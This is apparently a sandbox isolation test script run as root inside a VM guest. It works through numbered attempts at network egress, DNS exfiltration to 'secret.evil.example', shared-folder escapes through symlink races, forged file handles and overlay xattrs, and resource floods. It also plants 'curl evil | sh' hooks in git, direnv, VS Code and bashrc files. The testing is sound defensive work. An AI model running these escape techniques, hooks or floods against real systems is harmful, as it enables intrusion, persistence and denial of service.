"""What a hostile root of the computer tries, by the numbers of the list of attacks.

Usage: guest-attacks.py ROW PORT TAG   (as root, in the guest)

Prints what the attempt came to. "REACHED" is printed, and only then, when something was reached that
must not be. PORT: where a listener of the host waits that nobody may reach. TAG: of the folder that is
at /folders/Attack. The draft that a row leaves behind is what the host then looks at, keeps and takes
back.
"""
import ctypes
import errno
import glob
import os
import signal
import socket
import stat
import struct
import subprocess
import sys
import time

ROW, PORT, TAG = sys.argv[1], int(sys.argv[2]), sys.argv[3]
SHARE = "/folders/Attack"
LOWER = f"/run/annex/lower/{TAG}"
UPPER = f"/var/lib/annex/shares/{TAG}/upper"
CANARY = b"canary-7f3a9c51"
# Nobody's: RFC 5737 and 3849 keep these for examples.
FAR, FAR6 = "192.0.2.1", "2001:db8::1"
libc = ctypes.CDLL(None, use_errno=True)
rows = {}


def row(function):
    rows[function.__name__] = function
    return function


def attempt(what, function, *args):
    """Says how it failed; what does not fail has reached something."""
    try:
        result = function(*args)
    except OSError as error:
        print(f"{what}: {errno.errorcode.get(error.errno, error)}")
        return None
    print(f"{what}: REACHED {result!r}")
    return result


def harmless(what, function, *args):
    """May work: what it leaves is looked at afterwards."""
    try:
        result = function(*args)
    except OSError as error:
        print(f"{what}: {errno.errorcode.get(error.errno, error)}")
        return None
    print(f"{what}: {result!r}")
    return result


def shell(command):
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=60)
    print(f"{command}: {done.returncode} {(done.stdout + done.stderr).strip()[:300]}")
    return done.returncode


def look_for_canary(*paths):
    for path in paths:
        try:
            with open(path, "rb") as file:
                print(f"{path}: {'REACHED' if CANARY in file.read(1 << 20) else 'something else'}")
        except OSError as error:
            print(f"{path}: {errno.errorcode.get(error.errno, error)}")


def write(path, data=b"of the agent"):
    with open(path, "wb") as file:
        file.write(data)


def check(result):
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def connect(family, kind, address):
    with socket.socket(family, kind) as peer:
        peer.settimeout(3)
        peer.connect(address)
        peer.send(b"x")
        return peer.recv(1) or "closed"


def send_to(family, kind, protocol, address, options=()):
    with socket.socket(family, kind, protocol) as peer:
        for option in options:
            peer.setsockopt(*option)
        return peer.sendto(b"\x08\x00\xf7\xff\0\0\0\0", address)


# ---------------------------------------------------------------- the way out


@row
def E1():
    attempt("TCP", connect, socket.AF_INET, socket.SOCK_STREAM, (FAR, 80))
    attempt("TCP", connect, socket.AF_INET, socket.SOCK_STREAM, ("10.0.2.2", PORT))


@row
def E2():
    attempt("UDP", send_to, socket.AF_INET, socket.SOCK_DGRAM, 0, (FAR, 9))


@row
def E3():
    attempt("ICMP", send_to, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, (FAR, 0))


@row
def E4():
    names = [name for _, name in socket.if_nameindex() if name != "lo"]
    print(f"cards: {names}" if not names else f"cards: REACHED {names}")
    attempt("raw", send_to, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW, (FAR, 0))


@row
def E5():
    attempt("TCP", connect, socket.AF_INET6, socket.SOCK_STREAM, (FAR6, 80))
    attempt("UDP", send_to, socket.AF_INET6, socket.SOCK_DGRAM, 0, (FAR6, 9))


@row
def E6():
    for scope in range(0, 4):
        if scope == socket.if_nametoindex("lo"):
            continue  # its own
        attempt(f"scope {scope}", connect, socket.AF_INET6, socket.SOCK_STREAM, ("fe80::1", 80, 0, scope))


@row
def E7():
    for address in ("127.0.0.1", "127.0.0.2", "10.0.2.2", "192.168.122.1"):
        attempt(address, connect, socket.AF_INET, socket.SOCK_STREAM, (address, PORT))
    for target in ("127.0.0.1", "localhost", "[::1]", "10.0.2.2"):
        with socket.create_connection(("127.0.0.1", 3128), 10) as proxy:
            where = f"{target}:{PORT}"
            proxy.sendall(f"CONNECT {where} HTTP/1.1\r\nHost: {where}\r\n\r\n".encode())
            line = proxy.recv(4096).split(b"\r\n")[0]
            print(f"by the proxy to {target}: {line.decode()}{' REACHED' if b' 200' in line else ''}")


@row
def E8():
    for name in ("\0annex-attack", f"/tmp/annex-attack-{PORT}"):
        attempt("socket", connect, socket.AF_UNIX, socket.SOCK_STREAM, name)


@row
def E9():
    shell("modprobe vsock; modprobe vmw_vsock_virtio_transport; true")
    for port in (1, 22, 1024, 3128, PORT):
        try:
            attempt(f"port {port}", connect, socket.AF_VSOCK, socket.SOCK_STREAM, (2, port))
        except AttributeError:
            print("there is no such family")


@row
def E10():
    ports = glob.glob("/dev/vport*")
    print(f"ports: {ports}" if len(ports) == 1 else f"ports: REACHED {ports}")
    for port in ports:
        attempt(port, os.open, port, os.O_RDWR | os.O_NONBLOCK)  # taken, by the one channel there is
    for console in glob.glob("/dev/hvc[0-9]"):
        attempt(console, os.open, console, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)


@row
def E11():
    for module in ("tun", "tap", "slip", "ppp_generic", "virtio_net", "e1000", "usbnet", "plip"):
        shell(f"modprobe {module}")
    if shell("ip tuntap add dev annex0 mode tun") == 0:
        shell("ip addr add 192.0.2.2/24 dev annex0; ip link set annex0 up; ip route add default dev annex0")
        attempt("by tun", connect, socket.AF_INET, socket.SOCK_STREAM, (FAR, 80))
        shell("ip link del annex0")


@row
def E12():
    for device in sorted(glob.glob("/sys/bus/pci/devices/*")):
        kind = open(f"{device}/class").read().strip()
        bad = kind[2:4] in ("02", "0d") or kind[2:6] == "0c03"
        print(f"{os.path.basename(device)} {kind}{' REACHED' if bad else ''}")
    # 2 disk, 3 console, 4 random numbers, 5 balloon, 26 folders
    for device in sorted(glob.glob("/sys/bus/virtio/devices/*")):
        number = int(open(f"{device}/device").read(), 16)
        print(f"{os.path.basename(device)} {number}{'' if number in (2, 3, 4, 5, 26) else ' REACHED'}")


QUERY = b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0\x06secret\x04evil\x07example\0\0\x01\0\x01"


def name_servers():
    found = []
    try:
        for line in open("/etc/resolv.conf"):
            if line.startswith("nameserver"):
                found.append(line.split()[1])
    except OSError:
        pass
    return found + [FAR, "10.0.2.3"]


@row
def E13():
    for server in name_servers():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
            peer.settimeout(2)
            try:
                peer.sendto(QUERY, (server, 53))
                print(f"{server}: REACHED {peer.recv(512)!r}")
            except OSError as error:
                print(f"{server}: {error}")
    attempt("by name", socket.getaddrinfo, "secret.evil.example", 80)


@row
def E14():
    for server in name_servers():
        attempt(server, connect, socket.AF_INET, socket.SOCK_STREAM, (server, 53))


@row
def E15():
    for server in name_servers():
        attempt(server, connect, socket.AF_INET, socket.SOCK_STREAM, (server, 853))


@row
def E19():
    for address, port in (("224.0.0.251", 5353), ("224.0.0.252", 5355), ("255.255.255.255", 137)):
        attempt(address, send_to, socket.AF_INET, socket.SOCK_DGRAM, 0, (address, port),
                [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)])
    attempt("ff02::fb", send_to, socket.AF_INET6, socket.SOCK_DGRAM, 0, ("ff02::fb", 5353, 0, 0))


# ---------------------------------------------------------------- folders


@row
def F1():
    for base in (LOWER, SHARE, f"{LOWER}/dir", f"{SHARE}/dir"):
        look_for_canary(*(f"{base}/{'../' * up}outside/canary" for up in range(1, 4)))
    found = subprocess.run(["grep", "-rlsa", CANARY.decode(), LOWER, "/folders", "/run/annex"],
                           capture_output=True, text=True, timeout=60).stdout.split()
    print(f"found: REACHED {found}" if found else "found: nothing")


@row
def F2():
    look_for_canary(f"{SHARE}/link-absolute", f"{LOWER}/link-absolute", f"{SHARE}/link-up")
    os.symlink("/etc/passwd", f"{SHARE}/to-passwd")
    os.symlink("/", f"{UPPER}/to-root")


@row
def F3():
    look_for_canary(f"{SHARE}/chain")
    os.symlink("../outside/canary", f"{SHARE}/b")
    os.symlink("b", f"{SHARE}/c")
    os.symlink(".", f"{SHARE}/top")
    os.symlink("top/../outside", f"{SHARE}/way")


def swap(first, second, seconds):
    """A process that changes what a name stands for as fast as it can, and goes on meanwhile."""
    if os.fork() > 0:
        return
    os.setsid()
    for fd in (0, 1, 2):
        os.dup2(os.open("/dev/null", os.O_RDWR), fd)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for _ in range(500):
            check(libc.renameat2(-100, first.encode(), -100, second.encode(), 2))
    os._exit(0)


@row
def F4():
    write(f"{UPPER}/victim", b"honest")
    os.symlink("/etc/passwd", f"{UPPER}/other")
    swap(f"{UPPER}/victim", f"{UPPER}/other", 25)


@row
def F5():
    os.makedirs(f"{UPPER}/parent/deep")
    write(f"{UPPER}/parent/deep/passwd", b"honest")
    os.symlink("/etc", f"{UPPER}/elsewhere")
    swap(f"{UPPER}/parent", f"{UPPER}/elsewhere", 25)


@row
def F6():
    look_for_canary(f"{LOWER}/../outside/canary")
    attempt("link", os.link, f"{LOWER}/file", f"{LOWER}/linked")
    attempt("link", os.link, "/etc/passwd", f"{LOWER}/linked")
    # Of the host's hard link the draft gets a copy; what it is linked to stays.
    write(f"{SHARE}/hard", b"changed through the hard link")


@row
def F7():
    attempt("link", os.link, "/folders/Fixed/file", f"{SHARE}/linked")
    attempt("link", os.link, f"{SHARE}/file", "/folders/Fixed/linked")
    attempt("rename", os.rename, "/folders/Fixed/file", f"{SHARE}/moved")
    harmless("link", os.link, f"{SHARE}/file", f"{SHARE}/dir/linked")


@row
def F8():
    shell(f"mount --bind /etc {SHARE}/dir && mount --bind /root {LOWER}/dir; mkdir -p {UPPER}/bound && "
          f"mount --bind /etc {UPPER}/bound")
    harmless("through it", write, f"{SHARE}/dir/annex-attack")
    look_for_canary(f"{LOWER}/dir/../../outside/canary")


@row
def F9():
    shell(f"mount -o remount,rw {LOWER}; mkdir -p /mnt/x; mount -t virtiofs -o rw {TAG} /mnt/x; "
          "mount -o remount,rw /folders/Fixed; true")
    for base in (LOWER, "/mnt/x"):
        attempt("write", write, f"{base}/file")
        attempt("make", write, f"{base}/made")
        attempt("remove", os.unlink, f"{base}/file")
        attempt("rename", os.rename, f"{base}/file", f"{base}/renamed")
        attempt("folder", os.mkdir, f"{base}/folder")
        attempt("mode", os.chmod, f"{base}/file", 0o777)
        attempt("times", os.utime, f"{base}/file", (1, 1))
        attempt("length", os.truncate, f"{base}/file", 0)
    harmless("fixed", write, "/folders/Fixed/file")


@row
def F10():
    attempt("below", os.mknod, f"{LOWER}/zero", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    for name, kind, number in (("zero", stat.S_IFCHR, (1, 5)), ("disk", stat.S_IFBLK, (8, 0)),
                               ("whiteout", stat.S_IFCHR, (0, 0))):
        harmless(name, os.mknod, f"{UPPER}/{name}", 0o666 | kind, os.makedev(*number))


@row
def F11():
    attempt("below", os.mkfifo, f"{LOWER}/fifo")
    os.mkfifo(f"{UPPER}/fifo")
    os.rename(f"{UPPER}/fifo", f"{UPPER}/Report.docx")


@row
def F12():
    attempt("below", socket.socket(socket.AF_UNIX).bind, f"{LOWER}/socket")
    socket.socket(socket.AF_UNIX).bind(f"{UPPER}/socket")


@row
def F13():
    write(f"{SHARE}/setuid", b"#!/bin/sh\nid\n")
    os.chmod(f"{SHARE}/setuid", 0o6755)
    os.chmod(f"{SHARE}/dir", 0o7777)
    os.chmod(f"{SHARE}/file", 0o4711)


CAPABILITY = struct.pack("<IIIII", 0x02000001, 0xffffffff, 0, 0xffffffff, 0)
ACL = struct.pack("<I", 2) + b"".join(
    struct.pack("<HHI", tag, 7, who) for tag, who in
    ((1, 0xffffffff), (2, 0), (4, 0xffffffff), (0x10, 0xffffffff), (0x20, 0xffffffff)))


@row
def F14():
    attempt("below", os.setxattr, f"{LOWER}/file", "security.capability", CAPABILITY)
    write(f"{SHARE}/capable", b"#!/bin/sh\n")
    harmless("of a file", os.setxattr, f"{SHARE}/capable", "security.capability", CAPABILITY)
    harmless("in the layer", os.setxattr, f"{UPPER}/capable", "security.capability", CAPABILITY)


@row
def F15():
    write(f"{SHARE}/marked")
    for name in ("user.mime_type", "trusted.overlay.metacopy", "trusted.overlay.redirect",
                 "trusted.overlay.origin", "trusted.x", "security.selinux", "user.overlay.opaque"):
        attempt("below", os.setxattr, f"{LOWER}/file", name, b"/../outside")
        harmless(name, os.setxattr, f"{UPPER}/marked", name, b"/../outside")
    os.makedirs(f"{UPPER}/redirected")
    harmless("redirect", os.setxattr, f"{UPPER}/redirected", "trusted.overlay.redirect", b"/../outside")


@row
def F16():
    attempt("below", os.setxattr, f"{LOWER}/file", "system.posix_acl_access", ACL)
    write(f"{SHARE}/listed")
    harmless("of a file", os.setxattr, f"{SHARE}/listed", "system.posix_acl_access", ACL)
    harmless("of a folder", os.setxattr, f"{SHARE}/dir", "system.posix_acl_default", ACL)


@row
def F17():
    attempt("below", os.chown, f"{LOWER}/file", 0, 0)
    write(f"{SHARE}/roots")
    os.chown(f"{SHARE}/roots", 0, 0)
    os.chown(f"{SHARE}/file", 0, 0)


@row
def F18():
    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]

    handle, mount_id = Handle(bytes=128), ctypes.c_int()
    folder = os.open(LOWER, os.O_RDONLY)
    if harmless("handle", lambda: check(libc.name_to_handle_at(folder, b"file", ctypes.byref(handle),
                                                               ctypes.byref(mount_id), 0))) is None:
        return
    honest = bytes(handle.data[:handle.bytes])
    reached = 0
    for number in range(0, 4000):
        forged = Handle(bytes=handle.bytes, type=handle.type)
        raw = struct.pack("<Q", number)[:8] + honest[8:]
        forged.data[:len(raw)] = raw
        fd = libc.open_by_handle_at(folder, ctypes.byref(forged), os.O_RDONLY)
        if fd < 0:
            continue
        try:
            if CANARY in os.read(fd, 4096):
                reached += 1
        except OSError:
            pass
        os.close(fd)
    print("REACHED" if reached else "nothing but the share")


@row
def F19():
    folder = os.open(LOWER, os.O_RDONLY)
    inner = os.open(f"{LOWER}/dir", os.O_RDONLY)
    for fd in (folder, inner):
        look_for_canary(*(f"/proc/self/fd/{fd}/{'../' * up}outside/canary" for up in range(0, 4)))
    shown = os.readlink(f"/proc/self/fd/{folder}")
    print(f"{shown}{'' if shown == LOWER else ' REACHED'}")
    for process in glob.glob("/proc/[0-9]*/root"):
        look_for_canary(f"{process}/outside/canary")
    os.symlink(f"/proc/self/fd/{folder}", f"{SHARE}/by-number")


@row
def F20():
    attempt("below", os.open, LOWER, os.O_TMPFILE | os.O_RDWR)
    fd = harmless("above", os.open, SHARE, os.O_TMPFILE | os.O_RDWR)
    if fd is not None:
        os.write(fd, b"from nowhere")
        harmless("named", lambda: check(libc.linkat(-100, f"/proc/self/fd/{fd}".encode(), -100,
                                                    f"{SHARE}/named".encode(), 0x400)))
        attempt("named below", lambda: check(libc.linkat(-100, f"/proc/self/fd/{fd}".encode(), -100,
                                                         f"{LOWER}/named".encode(), 0x400)))


def exchange(first, second):
    return check(libc.renameat2(-100, first.encode(), -100, second.encode(), 2))


@row
def F21():
    os.makedirs("/folders/fake", exist_ok=True)
    attempt("mount point", exchange, SHARE, "/folders/fake")
    attempt("two shares", exchange, f"{SHARE}/file", "/folders/Fixed/file")
    attempt("below", exchange, f"{LOWER}/file", f"{LOWER}/dir")
    harmless("inside", exchange, f"{SHARE}/file", f"{SHARE}/dir")
    os.rmdir("/folders/fake")


@row
def F22():
    source = os.open("/etc/passwd", os.O_RDONLY)
    attempt("into it", lambda: os.copy_file_range(source, os.open(f"{LOWER}/file", os.O_RDWR), 100))
    attempt("by itself", lambda: os.copy_file_range(source, os.open(f"{LOWER}/file", os.O_RDONLY), 100))
    target = os.open(f"{SHARE}/copied", os.O_RDWR | os.O_CREAT)
    harmless("copied", lambda: os.copy_file_range(os.open(f"{LOWER}/file", os.O_RDONLY), target, 100))


@row
def F23():
    import fcntl
    flags = struct.pack("i", 0x10)
    attempt("below", lambda: fcntl.ioctl(os.open(f"{LOWER}/file", os.O_RDONLY), 0x40086602, flags))
    write(f"{SHARE}/immutable")
    harmless("above", lambda: fcntl.ioctl(os.open(f"{UPPER}/immutable", os.O_RDONLY), 0x40086602, flags))


@row
def F24():
    write(f"{SHARE}/{'n' * 255}")
    attempt("256", write, f"{SHARE}/{'n' * 256}")
    os.chdir(UPPER)
    for _ in range(40):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    write("at-the-end")


@row
def F25():
    for name in (b"line\nfeed", b"\x1b[2Jescape", "right\u202etxt.exe".encode(), b"invalid\xff\xfe",
                 b"<b>markup&amp;<b>", b"-rf", b"$(reboot)", b" ", b"\r", "zero\u200bwidth".encode()):
        with open(os.path.join(SHARE.encode(), name), "wb") as file:
            file.write(name)


@row
def F26():
    for name in ("Twin", "twin", "TWIN", "file", "FILE"):
        write(f"{SHARE}/{name}", name.encode())


@row
def F27():
    with open(f"{SHARE}/giant", "wb") as file:
        for size in (1 << 62, 1 << 50, 15 << 40, 1 << 40):
            if harmless(f"{size:x}", file.truncate, size) is not None:
                break
        file.seek(0)
        file.write(b"x")


@row
def F28():
    """More than are ever listed; as further names of few files, which takes a guest a minute."""
    os.mkdir(f"{UPPER}/many")
    os.chdir(f"{UPPER}/many")
    os.close(os.open("0", os.O_CREAT | os.O_WRONLY))
    first, n = "0", 1
    while n < 200_100:
        if n % 60_000 == 0:
            first = str(n)
            os.close(os.open(first, os.O_CREAT | os.O_WRONLY))
        else:
            os.link(first, str(n))
        n += 1
    print(f"{n} files")


@row
def F29():
    until = time.monotonic() + 60  # as many as a slow guest makes in a minute
    for n in range(20000):
        if n > 500 and time.monotonic() > until:
            break
        path = f"{SHARE}/flood-{n % 50}"
        write(path)
        os.rename(path, f"{SHARE}/renamed-{n % 50}")
        if n % 7 == 0 and n % 50 != 1:  # wherever it stops, renamed-1 is there
            os.unlink(f"{SHARE}/renamed-{n % 50}")


@row
def F30():
    """Holds on to all that may be held, and writes down what it sees after it was taken away."""
    if os.fork() > 0:
        time.sleep(1)
        return
    os.setsid()
    folder = os.open("/folders/Revoked", os.O_RDONLY)
    held = os.open("/folders/Revoked/file", os.O_RDWR)
    log = os.open("/root/seen", os.O_WRONLY | os.O_CREAT | os.O_TRUNC)
    for fd in (0, 1, 2):
        os.dup2(os.open("/dev/null", os.O_RDWR), fd)
    until = time.monotonic() + 60
    while time.monotonic() < until:
        for read in (lambda: os.pread(held, 4096, 0),
                     lambda: os.read(os.open("file", os.O_RDONLY, dir_fd=folder), 4096),
                     lambda: os.read(os.open("new", os.O_RDONLY, dir_fd=folder), 4096)):
            try:
                os.write(log, read())
            except OSError:
                pass
        try:
            os.pwrite(held, b"of the agent", 0)
        except OSError:
            pass
        time.sleep(0.05)


@row
def F30_after():
    look_for_canary("/root/seen")
    shell(f"mkdir -p /mnt/y; timeout 10 mount -t virtiofs {TAG} /mnt/y")
    look_for_canary("/mnt/y/file", "/folders/Revoked/file", f"{LOWER}/file")


@row
def F31():
    for path in (".git/hooks/post-commit", ".envrc", ".vscode/tasks.json", ".bashrc"):
        os.makedirs(os.path.dirname(f"{SHARE}/{path}"), exist_ok=True)
        write(f"{SHARE}/{path}", b"curl evil | sh")
        os.chmod(f"{SHARE}/{path}", 0o755)


@row
def F32():
    write(f"{SHARE}/Invoice.desktop", b"[Desktop Entry]\nExec=sh -c evil\n")
    write(f"{SHARE}/.gitconfig", b"[core]\n\tfsmonitor = evil\n")
    os.chmod(f"{SHARE}/Invoice.desktop", 0o755)


# ---------------------------------------------------------------- floods


@row
def Q3():
    children = []
    try:
        while len(children) < 50000:
            pid = os.fork()
            if pid == 0:
                libc.prctl(1, signal.SIGKILL)  # they end with the one who made them, however that ends
                time.sleep(600)
                os._exit(0)
            children.append(pid)
    except OSError as error:
        print(f"after {len(children)}: {errno.errorcode[error.errno]}")
    print(f"{len(children)} processes")
    sys.stdout.flush()
    time.sleep(10)
    for pid in children:
        os.kill(pid, signal.SIGKILL)


@row
def Q4():
    kept = []
    while True:
        kept.append(bytearray(os.urandom(1 << 20)) * 16)


@row
def Q5():
    held = []
    for _ in range(40):
        if os.fork() == 0:
            try:
                while True:
                    held.append(os.open("/dev/null", os.O_RDONLY))
            except OSError as error:
                if _ == 0:
                    print(f"{len(held)} files: {errno.errorcode[error.errno]}")
                    sys.stdout.flush()
            time.sleep(15)
            os._exit(0)
    while True:
        try:
            os.wait()
        except ChildProcessError:
            break


@row
def Q7():
    for folder in ("/dev/shm", "/run", "/tmp"):
        shell(f"timeout 40 sh -c 'cat /dev/zero >{folder}/ballast'; ls -l {folder}/ballast; "
              f"rm -f {folder}/ballast")


@row
def end():
    """Leaves nothing that would go on."""
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            words = open(path, "rb").read().split(b"\0")
            if b"/var/lib/annex/guest-attacks.py" in words and int(path.split("/")[2]) != os.getpid():
                os.kill(int(path.split("/")[2]), signal.SIGKILL)
        except (OSError, ValueError):
            pass
    subprocess.run(["bash", "-c", f"umount -l {UPPER}/bound {LOWER}/dir {SHARE}/dir /mnt/x /mnt/y; "
                    f"chattr -i {UPPER}/immutable; rm -rf {UPPER}/{'d' * 200} {UPPER}/many"],
                   capture_output=True)


rows[ROW]()
